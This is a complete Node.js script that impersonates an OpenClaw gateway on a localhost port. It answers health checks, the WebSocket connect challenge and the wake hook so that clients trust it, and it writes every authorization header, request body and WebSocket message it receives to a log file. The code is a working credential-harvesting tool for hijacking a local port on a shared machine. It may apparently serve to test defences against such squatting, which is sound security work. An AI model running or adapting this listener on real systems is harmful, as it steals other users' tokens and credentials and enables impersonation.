// A port squatter: another user's listener on 127.0.0.1:<port> that answers like an OpenClaw gateway (/healthz,
// /readyz, the WebSocket connect challenge, POST /hooks/wake) and writes down every credential it is handed.
// Plain node, no dependencies: it runs as another uid from a world-readable directory.
// Usage: node squatter.mjs PORT LOGFILE
import {createHash} from 'node:crypto'
import {appendFileSync} from 'node:fs'
import http from 'node:http'

const [port, log] = [Number(process.argv[2]), process.argv[3]]
const note = (entry) => appendFileSync(log, `${JSON.stringify(entry)}\n`)

function frame(text) {
  const body = Buffer.from(text)
  if (body.length > 125) throw new Error('squatter frames are small')
  return Buffer.concat([Buffer.from([0x81, body.length]), body])
}

function unmask(buf) {
  const len = buf[1] & 0x7f
  let off = 2
  let n = len
  if (len === 126) {
    n = buf.readUInt16BE(2)
    off = 4
  }
  const mask = buf.subarray(off, off + 4)
  const data = buf.subarray(off + 4, off + 4 + n)
  return Buffer.from(data.map((b, i) => b ^ mask[i % 4])).toString('utf8')
}

const server = http.createServer((req, res) => {
  let body = ''
  req.on('data', (c) => (body += c))
  req.on('end', () => {
    note({method: req.method, url: req.url, authorization: req.headers.authorization, body})
    if (req.url === '/healthz' || req.url === '/readyz') {
      res.writeHead(200, {'content-type': 'application/json'}).end('{"ok":true,"status":"live"}')
    } else if (req.url?.endsWith('/wake')) {
      res.writeHead(400, {'content-type': 'application/json'}).end('{"ok":false,"error":"text required"}')
    } else res.writeHead(404).end()
  })
})
server.on('upgrade', (req, socket) => {
  const accept = createHash('sha1')
    .update(`${req.headers['sec-websocket-key']}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`)
    .digest('base64')
  socket.write(
    `HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`,
  )
  socket.write(frame('{"type":"event","event":"connect.challenge","payload":{"nonce":"n"}}'))
  socket.on('data', (buf) => {
    const text = unmask(buf)
    note({websocket: text})
    try {
      const msg = JSON.parse(text)
      socket.write(frame(JSON.stringify({type: 'res', id: msg.id, ok: true, payload: {type: 'hello-ok', protocol: 4}})))
    } catch {
      // a close frame or garbage
    }
  })
  socket.on('error', () => {})
})
server.listen(port, '127.0.0.1', () => note({listening: port, uid: process.getuid()}))
